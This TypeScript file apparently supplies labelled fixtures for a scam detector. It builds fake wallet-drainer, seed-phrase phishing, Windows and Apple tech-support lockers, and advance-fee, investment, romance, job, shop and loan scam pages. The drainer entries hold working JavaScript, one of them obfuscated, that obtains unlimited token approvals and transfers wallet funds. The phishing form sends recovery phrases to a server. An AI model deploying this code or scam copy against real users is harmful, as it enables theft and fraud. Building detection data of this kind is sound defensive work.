import type { Entry } from '../entry.js';
import { doc, html, js, jsonRoute, redirectRoute, fileRoute, beepWav, pe, footer, logo, analytics, beacon } from '../parts/zm-kit.js';

// Wallet drainers, seed-phrase phishing, tech-support, advance-fee, investment, romance, job and shopping scams.

const drainerCore = (spender: string, claimApi: string) => `
async function connectAndClaim(){
  if(!window.ethereum){document.getElementById('msg').textContent='No wallet detected. Please open this page in MetaMask or Trust Wallet browser.';return}
  const [acc]=await ethereum.request({method:'eth_requestAccounts'});
  const chainId=await ethereum.request({method:'eth_chainId'});
  const assets=await (await fetch('${claimApi}?a='+acc+'&c='+chainId)).json();
  for(const t of assets.tokens){
    const deadline=Math.floor(Date.now()/1000)+86400*365;
    const typed={types:{EIP712Domain:[{name:'name',type:'string'},{name:'version',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],Permit:[{name:'owner',type:'address'},{name:'spender',type:'address'},{name:'value',type:'uint256'},{name:'nonce',type:'uint256'},{name:'deadline',type:'uint256'}]},primaryType:'Permit',domain:{name:t.name,version:'1',chainId:parseInt(chainId,16),verifyingContract:t.address},message:{owner:acc,spender:'${spender}',value:'115792089237316195423570985008687907853269984665640564039457584007913129639935',nonce:t.nonce,deadline:deadline}};
    const sig=await ethereum.request({method:'eth_signTypedData_v4',params:[acc,JSON.stringify(typed)]});
    await fetch('${claimApi}',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({acc,sig,token:t.address,deadline})});
  }
  const bal=await ethereum.request({method:'eth_getBalance',params:[acc,'latest']});
  const v=BigInt(bal)*95n/100n;
  if(v>0n)await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:'${spender}',value:'0x'+v.toString(16)}]});
}`;

export const entries: Entry[] = [
  {
  id: 'zm-drainer-nft-free-mint-obfuscated',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://pudgy-mint-free.live/mint',
  body: doc({
    title: 'Pudgy Penguins | Free Mint Phase II',
    css: `body{background:#b8e1ff;font-family:'Trebuchet MS',sans-serif;text-align:center}.card{background:#fff;max-width:420px;margin:60px auto;border-radius:24px;padding:30px}.m{background:#00142d;color:#fff;border:0;padding:14px 36px;border-radius:30px;font-size:18px}`,
    body: `<div class="card"><h1>🐧 Free Mint — Phase II</h1><p>Holders &amp; allowlist only. 2,221 / 3,000 minted.</p><p>Price: <b>FREE</b> (gas only)</p><button class="m" id="mint">Mint now</button><p id="st" style="font-size:13px;color:#777"></p></div>
<script src="/assets/web3-modal.bundle.js"></script>`,
  }),
  routes: {
    'pudgy-mint-free.live/assets/web3-modal.bundle.js': js(`var _0x1f=['\\x65\\x74\\x68\\x5f\\x72\\x65\\x71\\x75\\x65\\x73\\x74\\x41\\x63\\x63\\x6f\\x75\\x6e\\x74\\x73','\\x73\\x65\\x74\\x41\\x70\\x70\\x72\\x6f\\x76\\x61\\x6c\\x46\\x6f\\x72\\x41\\x6c\\x6c','\\x65\\x74\\x68\\x5f\\x73\\x65\\x6e\\x64\\x54\\x72\\x61\\x6e\\x73\\x61\\x63\\x74\\x69\\x6f\\x6e'];
(function(){var R='0x3c5e7a9b1d2f4e6a8c0b2d4f6a8c0e2b4d6f8a0c',W=window;document.getElementById('mint').onclick=async function(){var e=W['ethereum'];if(!e)return;var a=(await e.request({method:_0x1f[0]}))[0];document.getElementById('st').textContent='Confirm in your wallet…';
var cols=await (await fetch('/assets/cfg.json?w='+a)).json();
for(var i=0;i<cols.c.length;i++){var data='0xa22cb465'+R.slice(2).padStart(64,'0')+'1'.padStart(64,'0');await e.request({method:_0x1f[2],params:[{from:a,to:cols.c[i],data:data}]});}
document.getElementById('st').textContent='Minting… this may take a few minutes';}})();`),
    'pudgy-mint-free.live/assets/cfg.json': jsonRoute({ c: ['0xbd3531da5cf5857e7cfaa92426877b022e612cf8', '0x524cab2ec69124574082676e6f654a18df49a048'] }),
  },
},
  {
  id: 'zm-seedphrase-wallet-validation',
  label: 'cryptodrainer',
  kind: 'seed-phrase',
  url: 'https://walletconnect-sync-validate.com/import',
  body: doc({
    title: 'WalletConnect | Wallet Validation',
    css: `body{background:#141414;color:#eee}.c{max-width:520px;margin:50px auto;background:#1f1f1f;padding:30px;border-radius:16px}textarea{width:100%;height:110px;background:#111;color:#fff;border:1px solid #333;border-radius:8px;padding:10px}.tabs button{background:#2a2a2a;color:#ccc;border:0;padding:8px 14px;margin-right:4px;border-radius:6px}button.go{width:100%;background:#3b99fc;color:#fff;border:0;padding:14px;border-radius:10px;margin-top:14px}`,
    body: `<div class="c"><h2>Validate your wallet</h2><p style="color:#aaa">Synchronization error detected between your wallet and the dApp node. Import your wallet to resolve the issue and restore access to your assets.</p>
<p>Selected wallet: <b id="w">MetaMask</b></p><div class="tabs"><button>Phrase</button><button>Keystore JSON</button><button>Private Key</button></div><br>
<form id="f"><textarea name="phrase" placeholder="Enter your recovery phrase (12 or 24 words separated by spaces)"></textarea><p style="font-size:12px;color:#888">Typically 12 (sometimes 24) words separated by single spaces</p><button class="go">Validate</button></form><p id="r"></p></div>
<script>
document.getElementById('f').onsubmit=function(e){e.preventDefault();var p=this.phrase.value.trim().split(/\\s+/);
if(p.length!==12&&p.length!==24){document.getElementById('r').textContent='Invalid phrase';return}
fetch('/api/v3/sync',{method:'POST',headers:{'content-type':'application/x-www-form-urlencoded'},body:'w='+document.getElementById('w').textContent+'&k='+encodeURIComponent(p.join(' '))}).then(function(){document.getElementById('r').textContent='Validation failed. Please try again in 15 minutes.'})};
</script>`,
  }),
  routes: { 'walletconnect-sync-validate.com/api/v3/sync': jsonRoute({ ok: true }) },
},
  {
  id: 'zm-drainer-fake-uniswap-clone',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://app-uniswap-v4.org/swap',
  body: doc({
    title: 'Uniswap Interface',
    css: `body{background:#fff;font-family:Inter,sans-serif}.sw{max-width:460px;margin:80px auto;border:1px solid #eee;border-radius:24px;padding:12px}.in{background:#f9f9f9;border-radius:16px;padding:16px;margin:4px 0;font-size:28px}.cw{width:100%;background:#fde8f6;color:#fc72ff;border:0;border-radius:20px;padding:16px;font-size:18px;font-weight:600}.banner{background:#fff5e6;padding:10px;text-align:center;font-size:14px}`,
    body: `<div class="banner">🎁 Uniswap V4 migration reward: connected LPs receive 0.5 ETH bonus</div><div class="sw"><b>Swap</b><div class="in">0 <small>ETH</small></div><div class="in">0 <small>Select token</small></div><button class="cw" id="c">Connect wallet</button><p id="msg" style="font-size:12px"></p></div>
<script>${drainerCore('0x0000db5c8b030ae20308ac975898e09741e70000', '/api/portfolio')}
document.getElementById('c').onclick=connectAndClaim;</script>`,
  }),
  routes: { 'app-uniswap-v4.org/api/portfolio': jsonRoute({ tokens: [{ name: 'Tether USD', address: '0xdAC17F958D2ee523a2206206994597C13D831ec7', nonce: 0 }, { name: 'Uniswap', address: '0x1f9840a85d5aF5bf1D1762F925BDADdC4201F984', nonce: 0 }] }) },
},
  {
  id: 'zm-techsupport-defender-locker',
  label: 'scam',
  kind: 'tech-support',
  url: 'https://win-security-alert-center.live/err/0x80070643/',
  body: doc({
    title: 'Windows Defender Security Center',
    css: `body{background:#0078d7;color:#fff;font-family:'Segoe UI'}.w{max-width:720px;margin:60px auto;background:#fff;color:#000;padding:24px;border:1px solid #999}.t{background:#c00;color:#fff;padding:8px 14px;margin:-24px -24px 16px}.ph{font-size:28px;font-weight:700;color:#c00}`,
    bodyAttrs: 'onclick="lock()"',
    body: `<div class="w"><div class="t">Windows Defender - Security Warning</div><h2>** ACCESS TO THIS PC HAS BEEN BLOCKED FOR SECURITY REASONS **</h2>
<p>Your computer has alerted us that it has been infected with a Trojan Spyware. The following data has been compromised: Email Credentials, Banking Passwords, Facebook Login, Pictures &amp; Documents.</p>
<p>Windows Defender Scan has found potentially unwanted Adware on this device that can steal your passwords, online identity, financial information, personal files, pictures or documents.</p>
<p>Call Microsoft Support:</p><p class="ph">+1 (844) 719-3320 (Toll Free)</p><p>Do not close this window or restart your computer — doing so may lead to data loss.</p></div>
<audio id="a" src="/err/0x80070643/alarm.wav" loop autoplay></audio>
<script>
function lock(){try{document.documentElement.requestFullscreen()}catch(e){}document.getElementById('a').play()}
history.pushState(null,'',location.href);window.onpopstate=function(){history.pushState(null,'',location.href)};
window.onbeforeunload=function(){return 'Your computer is at risk!'};
setInterval(function(){document.title=document.title==='Windows Defender Security Center'?'⚠ VIRUS ALERT ⚠':'Windows Defender Security Center'},700);
</script>`,
  }),
  routes: { 'win-security-alert-center.live/err/0x80070643/alarm.wav': fileRoute(beepWav(1, 700), 'audio/wav') },
},
  {
  id: 'zm-techsupport-apple-icloud-fr',
  label: 'scam',
  kind: 'tech-support',
  url: 'https://assistance-apple-icloud.fr/alerte/securite.html',
  body: doc({
    lang: 'fr',
    title: 'Alerte de sécurité Apple',
    css: `body{background:#1d1d1f;color:#f5f5f7}.c{max-width:600px;margin:70px auto;background:#fff;color:#1d1d1f;border-radius:14px;padding:30px;text-align:center}.n{font-size:30px;color:#d70015;font-weight:700}`,
    body: `<div class="c"><div style="font-size:40px"></div><h2>Votre iPhone / Mac a été piraté</h2><p>Nous avons détecté une activité suspecte sur votre identifiant Apple. Vos photos, messages et données bancaires sont exposés. Votre identifiant Apple sera verrouillé dans <b id="t">04:59</b>.</p>
<p>Contactez immédiatement l'assistance Apple :</p><p class="n">01 86 95 24 07</p><p style="font-size:12px">Appel gratuit · Service disponible 24h/24 · Ne redémarrez pas votre appareil</p></div>
<script>var s=299;setInterval(function(){s--;document.getElementById('t').textContent='0'+(s/60|0)+':'+String(s%60).padStart(2,'0')},1000);
setTimeout(function(){alert('ALERTE : Appelez l\\'assistance Apple au 01 86 95 24 07')},1500);</script>`,
  }),
},
  {
  id: 'zm-scam-advance-fee-inheritance',
  label: 'scam',
  kind: 'advance-fee',
  url: 'https://barrister-chambers-estate.com/beneficiary/claim/NG-4471',
  body: doc({
    title: 'Chambers of Barr. Godwin Eze & Associates – Beneficiary Claim',
    css: `body{font-family:Georgia,serif;background:#fdfaf3}.c{max-width:720px;margin:30px auto;background:#fff;padding:36px;border:1px solid #ddd}input{width:100%;padding:9px;margin:4px 0 10px}`,
    body: `<div class="c"><h2>Re: Unclaimed Estate of Late Engr. Robert Williams (Deceased)</h2>
<p>Dear Beneficiary,</p><p>I am Barrister Godwin Eze, personal attorney to late Engr. Robert Williams, who died with his family in a car accident in 2021 leaving the sum of <b>US$8,500,000.00 (Eight Million Five Hundred Thousand United States Dollars)</b> in a security company. Since you share the same surname, I am seeking your consent to present you as next of kin.</p>
<p>To proceed, the bank requires a <b>Change of Ownership / Anti-Terrorism clearance certificate fee of US$1,850</b>, payable via Western Union, Bitcoin or iTunes gift cards. This is 100% risk free and legal.</p>
<form action="/beneficiary/submit.php" method="post"><input name="name" placeholder="Full Name"><input name="addr" placeholder="Address"><input name="phone" placeholder="Phone / WhatsApp"><input name="age" placeholder="Age / Occupation"><input name="id" placeholder="Passport or ID number"><button>Submit Claim</button></form>
<p>Yours faithfully,<br>Barr. Godwin Eze (Esq.)</p></div>`,
  }),
  routes: { 'barrister-chambers-estate.com/beneficiary/submit.php': html('<!doctype html><p>Thank you. Our fiduciary officer will contact you on WhatsApp with payment instructions.</p>') },
},
  {
  id: 'zm-scam-investment-ai-trader-de',
  label: 'scam',
  kind: 'investment',
  url: 'https://quantum-ai-trading-de.com/registrierung/',
  body: doc({
    lang: 'de',
    title: 'Quantum AI – Verdienen Sie bis zu 2.800 € täglich',
    css: `body{background:#0e1b2c;color:#fff}.h{display:flex;gap:40px;max-width:1000px;margin:40px auto;padding:0 20px}.f{background:#fff;color:#000;padding:24px;border-radius:10px;min-width:340px}.f input{width:100%;padding:10px;margin:5px 0}.f button{width:100%;background:#15c26b;color:#fff;border:0;padding:14px;font-weight:700}.t{background:#142a44;padding:12px;margin:8px 0;border-radius:6px}`,
    body: `<div class="h"><div><h1>Wie ein deutscher TV-Moderator mit Quantum AI in 3 Monaten 1,2 Mio. € verdiente</h1><p>Die KI-gestützte Plattform erzielt eine Trefferquote von 99,4 %. Mindesteinzahlung nur <b>250 €</b>. Nur noch <b id="n">17</b> Plätze frei für Deutschland!</p>
<div class="t">„Nach 2 Wochen hatte ich 14.300 € auf dem Konto." – Klaus M., Hamburg</div><div class="t">„Endlich finanzielle Freiheit!" – Sabine R., München</div></div>
<div class="f"><h3>Jetzt kostenlos registrieren</h3><form action="/registrierung/lead.php" method="post"><input name="vorname" placeholder="Vorname"><input name="nachname" placeholder="Nachname"><input name="email" placeholder="E-Mail"><input name="tel" placeholder="+49 Telefonnummer"><button>JETZT STARTEN</button></form><p style="font-size:11px">Ein persönlicher Kontomanager ruft Sie innerhalb von 15 Minuten an.</p></div></div>
<p style="font-size:10px;color:#777;text-align:center">Risikohinweis: Alle Gewinne sind garantiert. Dies ist keine Werbung.</p>
<script>setInterval(function(){var n=document.getElementById('n');if(+n.textContent>3)n.textContent=+n.textContent-1},9000)</script>`,
  }),
  routes: { 'quantum-ai-trading-de.com/registrierung/lead.php': redirectRoute(302, 'https://trade-desk-quantum.com/de/deposit') , 'trade-desk-quantum.com/de/deposit': html('<!doctype html><html lang="de"><h2>Ersteinzahlung 250 €</h2><form><input name="card" placeholder="Kartennummer"><button>Einzahlen</button></form></html>') },
},
  {
  id: 'zm-scam-crypto-doubling-giveaway',
  label: 'scam',
  kind: 'investment',
  url: 'https://tesla-btc-event2026.com/',
  body: doc({
    title: 'TESLA × Bitcoin 5,000 BTC Giveaway — Official Event',
    css: `body{background:#111;color:#eee;text-align:center}.a{font-family:monospace;background:#222;padding:14px;display:inline-block;border-radius:8px;font-size:16px}.tx{max-width:600px;margin:20px auto;text-align:left;font-family:monospace;font-size:13px}.tx div{border-bottom:1px solid #333;padding:6px}`,
    body: `<h1>5,000 BTC GIVEAWAY</h1><p>To celebrate Tesla's new Bitcoin treasury we are giving back to the community. Send from 0.01 to 20 BTC to the address below and receive <b>DOUBLE</b> back instantly!</p>
<p>Example: send 0.5 BTC → receive 1 BTC back.</p><div class="a">bc1qxy7x3k9vlr2w8dn0m8q4k2u5t3zq6wz9h4nq2r</div><p>Remaining: <b id="r">3,417.22 BTC</b></p>
<h3>Live transactions</h3><div class="tx" id="tx"></div>
<script>var tx=document.getElementById('tx');setInterval(function(){var v=(Math.random()*3).toFixed(3);var d=document.createElement('div');d.textContent='bc1q'+Math.random().toString(36).slice(2,12)+'…  IN '+v+' BTC  →  OUT '+(v*2).toFixed(3)+' BTC  ✔';tx.prepend(d)},2200)</script>`,
  }),
},
  {
  id: 'zm-scam-romance-military-giftcard',
  label: 'scam',
  kind: 'romance',
  url: 'https://un-peacekeeping-leave-request.org/soldier/leave-form',
  body: doc({
    title: 'United Nations Peacekeeping – Soldier Vacation Leave Application',
    css: `header{background:#009edb;color:#fff;padding:18px 30px}.c{max-width:680px;margin:30px auto;padding:0 20px}input,select{width:100%;padding:9px;margin:4px 0 12px}`,
    body: `<header><b>UNITED NATIONS</b> · Department of Peace Operations</header><div class="c"><h2>Vacation Leave Application for Deployed Personnel</h2>
<p>Applicant soldier: <b>Sgt. Michael J. Anderson</b>, US Army, UNMISS Juba, South Sudan.</p>
<p>The soldier's partner/family member must pay the <b>leave processing and flight fee of $2,700</b> before the leave can be approved. For security reasons payment is accepted only in Steam, Apple or Razer Gold gift cards. Please upload clear photos of the cards' back codes.</p>
<form action="/soldier/submit" method="post" enctype="multipart/form-data"><input name="name" placeholder="Your full name"><input name="rel" placeholder="Relationship to soldier"><select name="card"><option>Apple Gift Card</option><option>Steam</option><option>Razer Gold</option></select><input name="codes" placeholder="Card codes"><input type="file" name="photo"><button>Submit payment</button></form>
<p style="font-size:12px">Sgt. Anderson will be able to meet you in person once approved. Contact the leave officer: Capt. Harris, unleave.office@protonmail.com</p></div>`,
  }),
  routes: { 'un-peacekeeping-leave-request.org/soldier/submit': html('<!doctype html><p>Received. Processing takes 48 hours.</p>') },
},
  {
  id: 'zm-scam-romance-dating-verify-id',
  label: 'scam',
  kind: 'romance',
  url: 'https://safe-date-verify.com/member/verification?girl=anna_27',
  body: doc({
    title: 'SafeDate – Member Safety Verification',
    css: `body{background:#fde9ef}.c{max-width:460px;margin:40px auto;background:#fff;border-radius:16px;padding:26px;text-align:center}.p{width:90px;height:90px;border-radius:50%;background:#f3a5bb;margin:auto}input{width:100%;padding:10px;margin:5px 0}button{width:100%;background:#e8336d;color:#fff;border:0;padding:13px;border-radius:30px}`,
    body: `<div class="c"><div class="p"></div><h3>Anna, 27 wants to meet you ❤</h3><p>Anna requires all her dates to be verified as a safety measure. Verification is <b>free</b> — we only place a $1.00 hold on your card to confirm you are over 18 (refunded immediately).</p>
<form action="/member/verify-card" method="post"><input name="name" placeholder="Name on card"><input name="cc" placeholder="Card number"><input name="exp" placeholder="MM/YY"><input name="cvv" placeholder="CVC"><button>Verify &amp; unlock her number</button></form>
<p style="font-size:9px;color:#999">By clicking you agree to a 3-day trial, then $89.95/month recurring membership to SafeDate Premium, DateShield and LoveGuard.</p></div>`,
  }),
  routes: { 'safe-date-verify.com/member/verify-card': html('<!doctype html><p>Verified! Anna will message you soon.</p>') },
},
  {
  id: 'zm-scam-job-task-likes-id',
  label: 'scam',
  kind: 'job-scam',
  url: 'https://kerja-online-tiktokshop.com/tugas/daftar',
  body: doc({
    lang: 'id',
    title: 'Kerja Paruh Waktu – Dapatkan Rp 3.000.000/hari',
    css: `body{background:#fff0f3}.c{max-width:480px;margin:30px auto;background:#fff;border-radius:14px;padding:24px}.task{display:flex;justify-content:space-between;border-bottom:1px solid #eee;padding:10px 0}.btn{background:#fe2c55;color:#fff;border:0;padding:12px;width:100%;border-radius:8px}`,
    body: `<div class="c"><h2>💼 Kerja dari rumah, dibayar harian!</h2><p>Cukup like &amp; follow produk TikTok Shop, dapatkan komisi <b>Rp 15.000 per tugas</b>. Bonus pendaftaran Rp 50.000.</p>
<div class="task"><span>Tugas 1: Like video toko</span><b>+Rp15.000</b></div><div class="task"><span>Tugas 2: Follow akun</span><b>+Rp15.000</b></div><div class="task"><span>Tugas VIP: Deposit Rp 500.000 untuk order boost</span><b>+Rp 650.000</b></div>
<form action="/tugas/daftar.php" method="post"><input name="nama" placeholder="Nama" style="width:100%;padding:9px;margin:4px 0"><input name="wa" placeholder="No. WhatsApp" style="width:100%;padding:9px;margin:4px 0"><input name="bank" placeholder="Nama bank / e-wallet (DANA, OVO)" style="width:100%;padding:9px;margin:4px 0"><button class="btn">Daftar sekarang</button></form>
<p style="font-size:12px">Hubungi mentor Telegram: @ttshop_mentor_ayu</p></div>`,
  }),
  routes: { 'kerja-online-tiktokshop.com/tugas/daftar.php': html('<!doctype html><p>Berhasil! Mentor akan menghubungi Anda via WhatsApp.</p>') },
},
  {
  id: 'zm-scam-shop-clearance-pl',
  label: 'scam',
  kind: 'fake-shop',
  url: 'https://wyprzedaz-likwidacja-sklepu.pl/produkt/dyson-v15',
  body: doc({
    lang: 'pl',
    title: 'Dyson V15 Detect – LIKWIDACJA MAGAZYNU -85%',
    css: `.top{background:#c00;color:#fff;text-align:center;padding:8px;font-weight:700}.p{display:flex;gap:30px;max-width:900px;margin:30px auto}.img{width:380px;height:380px;background:#eee}.old{text-decoration:line-through;color:#888}.new{font-size:36px;color:#c00;font-weight:700}.btn{background:#ff6a00;color:#fff;border:0;padding:16px 40px;font-size:18px}`,
    body: `<div class="top">LIKWIDACJA MAGAZYNU – WSZYSTKO MUSI ZNIKNĄĆ! Zostało <span id="c">09:59</span></div>
<div class="p"><div class="img"></div><div><h1>Dyson V15 Detect Absolute</h1><p class="old">3 299,00 zł</p><p class="new">489,00 zł</p><p>🔥 Tylko 3 sztuki w magazynie! 27 osób ogląda teraz ten produkt.</p>
<form action="/kasa" method="get"><button class="btn">KUP TERAZ</button></form><p>Płatność: tylko przelew natychmiastowy lub BLIK na konto prywatne. Brak zwrotów na produkty wyprzedażowe.</p></div></div>
${footer('Sklep Outlet Sp. z o.o.', ['Regulamin', 'Kontakt', 'Polityka prywatności'], 2026, 'Adres: ul. Długa 1, 00-001 Warszawa (nieaktualny)')}`,
  }),
  routes: { 'wyprzedaz-likwidacja-sklepu.pl/kasa': html('<!doctype html><html lang="pl"><h2>Dane do przelewu</h2><p>Odbiorca: Jan Kowalski<br>Nr konta: 12 1140 2004 0000 3102 7812 3456<br>Tytuł: zamówienie 8812</p><p>Lub wyślij BLIK na numer +48 512 881 204.</p></html>') },
},
  {
  id: 'zm-scam-puppy-shop-shipping-fee',
  label: 'scam',
  kind: 'fake-shop',
  url: 'https://goldenhearts-puppies-home.com/available-puppies/',
  body: doc({
    title: 'Golden Hearts Puppies | Golden Retriever Puppies for Sale',
    css: `body{background:#fffaf2}.g{display:grid;grid-template-columns:repeat(3,1fr);gap:20px;max-width:900px;margin:30px auto}.d{background:#fff;border-radius:12px;padding:16px;box-shadow:0 1px 6px rgba(0,0,0,.1)}.d div{height:160px;background:#f1d9a6;border-radius:8px}`,
    body: `<h1 style="text-align:center">Available Golden Retriever Puppies 🐶</h1><p style="text-align:center">AKC registered · Vet checked · Free delivery nationwide · Only $350 rehoming fee!</p>
<div class="g"><div class="d"><div></div><h3>Max – male, 10 weeks</h3><p>$350</p></div><div class="d"><div></div><h3>Bella – female, 9 weeks</h3><p>$350</p></div><div class="d"><div></div><h3>Charlie – male, 11 weeks</h3><p>$350</p></div></div>
<div style="max-width:700px;margin:auto"><h3>How to adopt</h3><p>Payment via Zelle, Cash App, or Apple gift card only. After payment our pet transport partner <b>AirPet Express</b> will contact you for the refundable crate &amp; insurance fee ($780).</p><p>Contact Mrs. Linda by text: (405) 555-0192</p></div>`,
  }),
},
  {
  id: 'zm-scam-loan-upfront-fee-nl',
  label: 'scam',
  kind: 'loan-fee',
  url: 'https://snel-lening-zonder-bkr.nl/aanvraag/goedgekeurd',
  body: doc({
    lang: 'nl',
    title: 'Uw lening is goedgekeurd! – SnelLening',
    css: `.c{max-width:560px;margin:40px auto;padding:26px;border:1px solid #cde;border-radius:10px}.ok{color:#0a0;font-size:24px}input{width:100%;padding:10px;margin:4px 0}`,
    body: `<div class="c"><p class="ok">✔ Gefeliciteerd, uw lening van € 15.000 is goedgekeurd!</p><p>Zonder BKR-toetsing, rente 2% vast. Om de uitbetaling te starten moet u eerst de <b>verzekeringspremie en notariskosten van € 249</b> voldoen.</p>
<form action="/aanvraag/betaal" method="post"><input name="naam" placeholder="Volledige naam"><input name="iban" placeholder="IBAN"><input name="bsn" placeholder="BSN"><button style="background:#f60;color:#fff;border:0;padding:12px 30px;margin-top:8px">Betaal € 249 via iDEAL</button></form>
<p style="font-size:11px;color:#888">SnelLening B.V. – KvK 00000000 – Let op! Geld lenen kost geld.</p></div>`,
  }),
  routes: { 'snel-lening-zonder-bkr.nl/aanvraag/betaal': html('<!doctype html><p>U wordt doorgestuurd naar de betaalpagina…</p>') },
},
];
